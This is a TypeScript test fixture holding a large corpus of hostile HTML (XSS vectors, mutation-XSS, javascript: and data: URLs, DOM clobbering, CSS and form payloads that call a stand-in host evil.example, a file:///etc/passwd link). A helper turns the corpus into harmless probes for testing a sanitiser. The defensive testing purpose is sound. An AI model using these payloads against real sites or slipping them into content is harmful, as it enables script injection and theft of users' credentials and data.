/**
 * HTML that has fooled sanitisers and browsers, by class (safety T13). `{hit}` stands for a script that says it ran,
 * `{evil}` for an address of somebody else. Written for this project from the classes known in public: OWASP's and the
 * HTML standard's parsing rules, mutation XSS by namespaces, DOM clobbering.
 */
const corpus: Record<string, readonly string[]> = {
  'event handlers': [
    '<img src=x onerror={hit}>', '<img src=x onerror="{hit}">', "<img src=x onerror='{hit}'>", '<img src=x onerror=`{hit}`>', '<IMG SRC=x OnErRoR={hit}>',
    '<img/src=x/onerror={hit}>', '<img\fsrc=x\fonerror={hit}>', '<img\nsrc=x\nonerror\n=\n{hit}>', '<img src=x onerror\u00a0={hit} onerror={hit}>',
    '<img src=x:alert(alt) onerror=eval(alt) alt={hit}>', '<img src=x onerror="&#123;{hit}&#125;">', '<img """><img src=x onerror={hit}>"">',
    '<img srcset="x 1x" onerror={hit}>', '<picture><source srcset=x><img onerror={hit}></picture>', '<image src=x onerror={hit}>',
    '<svg onload={hit}>', '<svg/onload={hit}>', '<svg><g onload={hit}></g></svg>', '<body onload={hit}>', '<body onpageshow={hit}>',
    '<video src=x onerror={hit}></video>', '<video><source onerror={hit}></video>', '<audio src=x onerror={hit}></audio>', '<track onerror={hit}>',
    '<details open ontoggle={hit}>x</details>', '<input autofocus onfocus={hit}>', '<p tabindex=1 autofocus onfocus={hit}>x</p>',
    '<marquee onstart={hit}>x</marquee>', '<object data=x onerror={hit}></object>', '<embed src=x onerror={hit}>', '<iframe onload={hit}></iframe>',
    '<style onload={hit}></style>', '<link rel=stylesheet href=x onerror={hit}>', '<script onerror={hit} src=x></script>',
    '<p style="animation: spin 1s" onanimationstart={hit}>x</p>', '<p style="transition: 1s" ontransitionend={hit}>x</p>',
    '<p onclick={hit}>x</p>', '<a href=/m/help onmouseover={hit}>x</a>', '<p onbeforetoggle={hit} popover=auto>x</p>', '<p onunknown={hit} oncontentvisibilityautostatechange={hit} style=content-visibility:auto>x</p>',
  ],
  scripts: [
    '<script>{hit}</script>', '<script >{hit}</script >', '<SCRIPT>{hit}</SCRIPT>', '<scr<script>ipt>{hit}</scr</script>ipt>', '<script/x>{hit}</script>',
    '<script src={evil}></script>', '<script type=module>{hit}</script>', '<script type=importmap>{"imports":{"x":"{evil}"}}</script>',
    '<script type=speculationrules>{"prefetch":[{"urls":["{evil}"]}]}</script>', '<<script>{hit}//<</script>', '<script>{hit}', '</script><script>{hit}</script>',
    '<svg><script>{hit}</script></svg>', '<svg><script href={evil} /></svg>', '<svg><script xlink:href="data:,{hit}"></script></svg>', '<math><script>{hit}</script></math>',
  ],
  'svg and math': [
    '<svg><animate onbegin={hit} attributeName=x dur=1s>', '<svg><set onbegin={hit} attributeName=x>', '<svg><animateTransform onbegin={hit}>',
    '<svg><a xlink:href="javascript:{hit}"><text y=20>x</text></a></svg>', '<svg><a><animate attributeName=href values="javascript:{hit}"/><text y=20>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror={hit} /></svg>#x"/></svg>',
    '<svg><image href="{evil}"/></svg>', '<svg><image href=x onerror={hit}></svg>', '<svg><foreignObject><img src=x onerror={hit}></foreignObject></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>{hit}</script>"></iframe></foreignObject></svg>', '<svg><title><img src=x onerror={hit}></title></svg>',
    '<svg><desc><img src=x onerror={hit}></desc></svg>', '<svg><style>@import "{evil}";</style></svg>', '<svg><filter><feImage href="{evil}"/></filter></svg>',
    '<svg><handler type="text/javascript" ev:event="load">{hit}</handler></svg>', '<math href="javascript:{hit}"><mtext>x</mtext></math>',
    '<math><maction actiontype="statusline#" xlink:href="javascript:{hit}">x</maction></math>', '<math><annotation-xml encoding="text/html"><img src=x onerror={hit}></annotation-xml></math>',
    '<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>{hit}</script></annotation-xml></semantics></math>',
  ],
  mutations: [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={hit}&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror={hit}>',
    '<svg></p><style><a id="</style><img src=1 onerror={hit}>">', '<svg><style><!--</style><img src=x onerror={hit}>--></svg>',
    '<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror={hit} src>">',
    '<svg><p><style><g title="</style><img src=x onerror={hit}>">', '<math><mi><table><mglyph><nolink><style></nolink><img src=x onerror={hit}></style>',
    '<noscript><p title="</noscript><img src=x onerror={hit}>">', '<noembed><p title="</noembed><img src=x onerror={hit}>"></noembed>',
    '<noframes><p title="</noframes><img src=x onerror={hit}>"></noframes>', '<xmp><p title="</xmp><img src=x onerror={hit}>"></xmp>',
    '<textarea><p title="</textarea><img src=x onerror={hit}>"></textarea>', '<title><p title="</title><img src=x onerror={hit}>"></title>',
    '<listing>&lt;img src=x onerror={hit}&gt;</listing>', '<iframe><p title="</iframe><img src=x onerror={hit}>"></iframe>', '<plaintext><img src=x onerror={hit}>',
    '<select><template><style></select><img src=x onerror={hit}></style>', '<table><td><svg><desc><td></desc></svg><title><p title="</title><img src=x onerror={hit}>">',
    '<p><svg><![CDATA[</p><img src=x onerror={hit}>]]></svg>', '<svg><![CDATA[><img src=x onerror={hit}>]]>', '<!--><img src=x onerror={hit}>-->', '<!--!><img src=x onerror={hit}>-->',
    '<!--\u002d><img src=x onerror={hit}>', '<!DOCTYPE x [<!ENTITY y "<img src=x onerror={hit}>">]>&y;', '<?xml version="1.0"?><?x <img src=x onerror={hit}>?>',
    '<b><p title="</b><img src=x onerror={hit}>">x', '<a><table><a><img src=x onerror={hit}>', `${'<div>'.repeat(520)}<svg><style><!--</style><img src=x onerror={hit}>-->`,
    `${'<b>'.repeat(300)}<img src=x onerror={hit}>`, '<h1><h2><form><h3><img src=x onerror={hit}>', '<p title=\'"><img src=x onerror={hit}>\'>x</p>',
    '<p title="&quot;&gt;&lt;img src=x onerror={hit}&gt;">x</p>', '&lt;img src=x onerror={hit}&gt;', '&amp;lt;img src=x onerror={hit}&amp;gt;', '<p>&#60;img src=x onerror={hit}&#62;</p>',
  ],
  templates: [
    '<template><img src=x onerror={hit}></template>', '<template><script>{hit}</script></template>', '<p><template shadowrootmode=open><img src=x onerror={hit}></template></p>',
    '<p><template shadowrootmode=open><script>{hit}</script><slot></slot></template>x</p>', '<template><template><svg onload={hit}></template></template>',
    '<slot name=x onslotchange={hit}></slot>', '{{constructor.constructor("{hit}")()}}', '${{hit}}', '<p is=x-element>x</p>', '<x-element onclick={hit}>x</x-element>',
  ],
  addresses: [
    '<a href="javascript:{hit}">x</a>', '<a href=" javascript:{hit}">x</a>', '<a href="JaVaScRiPt:{hit}">x</a>', '<a href="java\tscript:{hit}">x</a>', '<a href="java\nscript:{hit}">x</a>',
    '<a href="java&Tab;script:{hit}">x</a>', '<a href="java&NewLine;script:{hit}">x</a>', '<a href="&#106;avascript:{hit}">x</a>', '<a href="&#x6A;avascript:{hit}">x</a>',
    '<a href="&#0000106avascript:{hit}">x</a>', '<a href="javascript&colon;{hit}">x</a>', '<a href="javascript&#58;{hit}">x</a>', '<a href="\u0001javascript:{hit}">x</a>',
    '<a href="&#1;javascript:{hit}">x</a>', '<a href="\u00a0javascript:{hit}">x</a>', '<a href="\u2028javascript:{hit}">x</a>', '<a href="jav\u00adascript:{hit}">x</a>',
    '<a href="javascript://foyer.example/%0a{hit}">x</a>', '<a href="javascript:/*--></title></style></textarea></script>{hit}//">x</a>',
    '<a href="data:text/html,<script>{hit}</script>">x</a>', '<a href="data:text/html;base64,PHNjcmlwdD50b3AuaGl0KDApPC9zY3JpcHQ+">x</a>', '<a href="vbscript:{hit}">x</a>',
    '<a href="livescript:{hit}">x</a>', '<a href="feed:javascript:{hit}">x</a>', '<a href="view-source:javascript:{hit}">x</a>', '<a href="blob:{evil}">x</a>',
    '<a href="filesystem:{evil}">x</a>', '<a href="file:///etc/passwd">x</a>', '<a href="intent://x#Intent;scheme=javascript;end">x</a>', '<a href="//evil.example">x</a>',
    '<a href="/\\evil.example">x</a>', '<a href="/m//evil.example">x</a>', '<a href="/m/../console">x</a>', '<a href="/api/v1/session">x</a>', '<a href="\\\\evil.example">x</a>',
    '<a href="/m/help" ping="{evil}">x</a>', '<a href="/m/help" target=_top>x</a>', '<a href="/m/help" download>x</a>', '<area href="javascript:{hit}">', '<map name=x><area href="javascript:{hit}"></map><img usemap=#x src=x>',
    '<a xlink:href="javascript:{hit}">x</a>', '<blockquote cite="javascript:{hit}">x</blockquote>', '<img src="javascript:{hit}">', '<img longdesc="javascript:{hit}" src=x>',
    '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'{hit}\'/>">', '<table background="javascript:{hit}"><tr><td background="{evil}">x</table>',
  ],
  'pictures of others': [
    '<img src="{evil}">', '<img src="//evil.example/p.gif">', '<img src="/cdn/../api/v1/session">', '<img src="/api/v1/session">', '<img src="http:evil.example/p.gif">', '<img src="\\\\evil.example\\p.gif">',
    '<img srcset="{evil} 1x">', '<img src=x lowsrc="{evil}" dynsrc="{evil}">', '<video poster="{evil}" src="{evil}"></video>', '<audio src="{evil}" autoplay></audio>', '<input type=image src="{evil}">',
    '<body background="{evil}">', '<object data="{evil}"></object>', '<embed src="{evil}">', '<applet code="{evil}"></applet>', '<bgsound src="{evil}">', '<source src="{evil}">',
  ],
  styles: [
    '<style>@import "{evil}";</style>', '<style>@import url({evil});*{display:none}</style>', '<style>*{background:url({evil})}</style>', '<link rel=stylesheet href="{evil}">',
    '<link rel=prefetch href="{evil}">', '<link rel=preload as=image href="{evil}">', '<link rel=dns-prefetch href="//evil.example">', '<link rel=preconnect href="{evil}">', '<link rel=icon href="{evil}">',
    '<link rel=import href="{evil}">', '<link rel=manifest href="{evil}">', '<p style="background:url({evil})">x</p>', '<p style="background:url(&quot;{evil}&quot;)">x</p>',
    '<p style="list-style:url({evil})">x</p>', '<p style="width:expression({hit})">x</p>', '<p style="behavior:url({evil})">x</p>', '<p style="-moz-binding:url({evil}#x)">x</p>',
    '<p style="position:fixed;inset:0;z-index:99999;background:red">x</p>', '<p style="width:10px;position:fixed">x</p>', '<p style="w\\69 dth:url({evil})">x</p>', '<p style="content:url({evil})">x</p>',
    '<p style="--x:url({evil});background:var(--x)">x</p>', '<p style="font-size:10px}*{background:url({evil})">x</p>', '<p style="width:10px/**/;/**/height:url({evil})">x</p>', '<font face="url({evil})" color=red>x</font>',
  ],
  'forms and controls': [
    '<form action="{evil}"><input name=password><button>Log in</button></form>', '<form action="javascript:{hit}"><input type=submit></form>', '<button formaction="javascript:{hit}">x</button>',
    '<input type=password name=password autocomplete=current-password>', '<input type=hidden name=x>', '<select name=x><option>x</select>', '<textarea name=x>x</textarea>', '<label for=root>x</label>',
    '<fieldset name=x><legend>x</legend></fieldset>', '<output name=x>x</output>', '<datalist id=x><option value=x></datalist>', '<keygen name=x autofocus onfocus={hit}>', '<isindex action="javascript:{hit}" type=image>',
    '<button popovertarget=root>x</button>', '<dialog open>x</dialog>', '<meter value=1>x</meter>', '<progress value=1>x</progress>', '<p contenteditable>x</p>', '<p tabindex=0 accesskey=x draggable=true>x</p>', '<menu type=context><menuitem onclick={hit}>x</menu>',
  ],
  clobbering: [
    '<p id=root>x</p>', '<p id=boot>{}</p>', '<p id=modules>[]</p>', '<img id=currentScript src=x>', '<a id=defaultView href=x>x</a>', '<form id=documentElement><input id=attributes></form>', '<img name=cookie src=x>', '<img name=getElementById src=x>',
    '<a id=kept></a><a id=kept name=click href=/m/help>x</a>', '<p id=installOffer>x</p>', '<iframe name=top></iframe>', '<object id=location></object>', '<embed name=history>', '<p class="dialog page toast">x</p>', '<p data-theme=light data-hydrated data-watched>x</p>',
    '<p aria-hidden=true role=alert slot=x part=x>x</p>', '<p hidden inert popover>x</p>', '<p itemid=x itemprop=x itemref=root>x</p>', '<p dir=rtl lang=ar translate=no>x</p>', '<p xml:base="{evil}" xmlns="http://www.w3.org/2000/svg">x</p>',
  ],
  'documents and frames': [
    '<meta http-equiv=refresh content="0;url={evil}">', '<meta http-equiv=refresh content="0;url=javascript:{hit}">', '<meta http-equiv=set-cookie content="x=1">', '<meta name=referrer content=unsafe-url>', '<meta http-equiv=content-security-policy content="default-src *">', '<base href="{evil}">', '<base target=_top>',
    '<iframe src="{evil}"></iframe>', '<iframe src="javascript:{hit}"></iframe>', '<iframe srcdoc="<script>{hit}</script>"></iframe>', '<iframe srcdoc="&lt;img src=x onerror={hit}&gt;"></iframe>', '<iframe src="data:text/html,<script>{hit}</script>"></iframe>',
    '<frameset onload={hit}><frame src="{evil}"></frameset>', '<object data="data:text/html,<script>{hit}</script>"></object>', '<object data="javascript:{hit}"></object>', '<embed src="javascript:{hit}">', '<embed src="data:text/html,<script>{hit}</script>">',
    '<object><param name=src value="{evil}"></object>', '<portal src="{evil}"></portal>', '<fencedframe src="{evil}"></fencedframe>', '<html onmouseover={hit}>x</html>', '<head><title>x</title></head>',
  ],
  letters: [
    '＜img src=x onerror={hit}＞', '<im\u0001g src=x onerror={hit}>', '<img src=x on\u0001error={hit}>', '\u202e<img src=x onerror={hit}>', '<\u200bimg src=x onerror={hit}>', '<img\u00a0src=x onerror={hit}>', '<img src=x onerror=\u2028{hit}>', '\ufeff<script>{hit}</script>',
    '<ſcript>{hit}</ſcript>', '<İmg src=x onerror={hit}>', '+ADw-script+AD4-{hit}+ADw-/script+AD4-', '\u00bcscript\u00be{hit}\u00bc/script\u00be', '<img src=x onerror={hit} \ufffd>', '%3Cimg src=x onerror={hit}%3E', '\\x3cimg src=x onerror={hit}\\x3e', '&lt;script&gt;{hit}&lt;/script&gt;',
  ],
};

/** One piece of hostile HTML, led by its name, which must be seen where it is shown. */
export interface HostileCase {
  name: string;
  html: string;
}

/** Who the addresses of the corpus belong to. */
export const evilHost = 'evil.example';

/** Every case; each says by its number that it ran, or asks for an address with it. */
export const hostileCases: readonly HostileCase[] = Object.entries(corpus).flatMap(([kind, htmls]) =>
  htmls.map((html, at) => {
    const name = `${kind} ${at}`;
    const ready = html.replaceAll('{hit}', `top.hit('${name.replaceAll(' ', '_')}')`).replaceAll('{evil}', `https://${evilHost}/${encodeURIComponent(name)}`);
    return { name, html: `<p>case ${name}.</p>${ready}` };
  }),
);

/** A text that is nothing but a text, wherever it is shown. */
export const hostileText = `<img src=x onerror=top.hit('text')>"'><svg onload=top.hit('text')>{{7*7}}\${7*7}<b>&amp;`;
